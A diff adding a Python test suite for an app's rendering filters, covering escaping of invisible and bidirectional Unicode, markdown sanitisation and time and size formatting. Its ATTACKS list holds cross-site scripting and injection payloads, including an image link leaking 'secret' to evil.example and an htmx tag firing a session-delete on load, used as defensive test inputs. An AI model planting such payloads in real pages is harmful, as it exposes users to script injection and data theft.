@@ -1,0 +1,152 @@
+from __future__ import annotations
+
+import json
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from app.render.filters import (
+    ago,
+    clip,
+    duration,
+    exact,
+    hidden_count,
+    markdown,
+    plural,
+    pretty,
+    shown,
+    size,
+    verbatim,
+)
+from tests.render.page import parse
+
+ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60)
+
+
+@pytest.mark.parametrize(
+    ("text", "visible"),
+    [
+        ("plain\n\ttext é 中 😀", "plain\n\ttext é 中 😀"),
+        ("a\u202eb", "a\\u202eb"),  # right-to-left override
+        ("a\u2066b\u2069", "a\\u2066b\\u2069"),  # isolates
+        ("a\u200b\u200d\ufeffb", "a\\u200b\\u200d\\ufeffb"),  # zero width
+        ("\x00\x07\x1b[0m\r\x7f\x85", "\\u0000\\u0007\\u001b[0m\\u000d\\u007f\\u0085"),
+        ("\U000e0041", "\\udb40\\udc41"),  # a tag character
+        ("\U000e0100", "\\udb40\\udd00"),  # a variation selector that smuggles
+        ("\ud800", "\\ud800"),  # a lone surrogate
+        ("\u0378", "\\u0378"),  # unassigned
+        ("\u2028\u2029", "\\u2028\\u2029"),  # line ends that are none
+        ("\u3164\u115f\u00ad", "\\u3164\\u115f\\u00ad"),  # fillers, soft hyphen
+        ("❤\ufe0f", "❤\ufe0f"),  # how an emoji looks is no secret
+    ],
+)
+def test_hidden_characters_are_shown(text: str, visible: str) -> None:
+    assert shown(text) == visible
+    changed = sum(a != b for a, b in zip(text, map(shown, text), strict=True))
+    assert hidden_count(text) == changed
+
+
+@given(ANY_TEXT, ANY_TEXT)
+def test_showing_can_be_done_in_pieces(a: str, b: str) -> None:
+    assert shown(a) + shown(b) == shown(a + b)
+    assert hidden_count(a + b) == hidden_count(a) + hidden_count(b)
+    shown(a).encode("utf-8")
+    assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x1b\r]", shown(a))
+
+
+@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters='"\\')))
+def test_the_escapes_mean_the_same_in_json(text: str) -> None:
+    assume = not any(ord(c) < 0x20 for c in text)
+    if assume:
+        assert json.loads(f'"{shown(text)}"') == text
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](https://evil.example/?q=secret)",
+    "![x][ref]\n\n[ref]: https://evil.example/a.png",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x)",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<hx-partial hx-target='#head'>gone</hx-partial>",
+    "<b hx-get='/sessions/1/delete' hx-trigger='load'>x</b>",
+    "[x](https://a.example \"t' onmouseover='alert(1)\")",
+    '```"><script>alert(1)</script>\nx\n```',
+    "<style>*{display:none}</style>",
+    "<iframe src=//evil.example></iframe>",
+    "<form action=/x><button>y",
+    "<svg><script>alert(1)</script></svg>",
+    "`<img src=x>`",
+    "<!-- --><title>x</title>",
+]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_markdown_is_inert(text: str) -> None:
+    for node in parse(str(markdown(text))).walk():
+        assert node.name not in {"script", "img", "iframe", "style", "svg", "form", "hx-partial"}
+        allowed = {"href", "rel"} if node.name == "a" else {"start"} if node.name == "ol" else set()
+        assert set(node.attributes) <= allowed
+        assert node.attributes.get("href", "https:").split(":")[0] in {"http", "https", "mailto"}
+
+
+@given(ANY_TEXT)
+def test_markdown_of_anything_is_well_formed(text: str) -> None:
+    names = {node.name for node in parse(str(markdown(text))).walk()}
+    assert not names & {"script", "img", "style", "iframe", "form"}
+
+
+def test_a_link_names_its_host() -> None:
+    assert "(evil.example)" in markdown("[your bank](https://evil.example/login)")
+    assert "(" not in markdown("<https://evil.example/login>")
+    assert 'rel="noopener noreferrer nofollow"' in markdown("[a](https://b.example)")
+
+
+def test_markdown_that_is_too_long_stays_text() -> None:
+    html = markdown("**a** <b>" * 20_000)
+    assert html.startswith('<div class="raw">**a** &lt;b&gt;')
+
+
+def test_form_fields_keep_what_was_typed() -> None:
+    assert verbatim('a\u200d"<b>\ud800') == "a\u200d&#34;&lt;b&gt;?"
+
+
+@pytest.mark.parametrize(
+    ("made", "wanted"),
+    [
+        (size(312), "312 B"),
+        (size(3100), "3.1k"),
+        (size(2_000_000), "2.0M"),
+        (duration(182), "182 ms"),
+        (duration(1240), "1.24 s"),
+        (duration(12_400), "12.4 s"),
+        (duration(185_000), "3 min 05 s"),
+        (duration(3_700_000), "1 h 01 min"),
+        (ago(0, 59_000), "just now"),
+        (ago(0, 240_000), "4 min ago"),
+        (ago(0, 86_400_000), "1 day ago"),
+        (ago(0, 86_400_000 * 30), "1970-01-01"),
+        (ago(5_000, 0), "just now"),
+        (exact(1_000), "1970-01-01 00:00:01 UTC"),
+        (clip("abcdef", 4), "abc…"),
+        (plural(1, "call"), "1 call"),
+        (plural(2, "entry", "entries"), "2 entries"),
+        (pretty("text"), "text"),
+        (pretty({"a": [1, {}]}), '{\n  "a": [1, {}]\n}'),
+    ],
+)
+def test_words(made: str, wanted: str) -> None:
+    assert made == wanted
+
+
+@given(
+    st.recursive(st.integers() | st.text(), lambda s: st.lists(s) | st.dictionaries(st.text(), s))
+)
+def test_pretty_changes_only_white_space(value: object) -> None:
+    if not isinstance(value, str):
+        assert json.loads(pretty(value)) == value
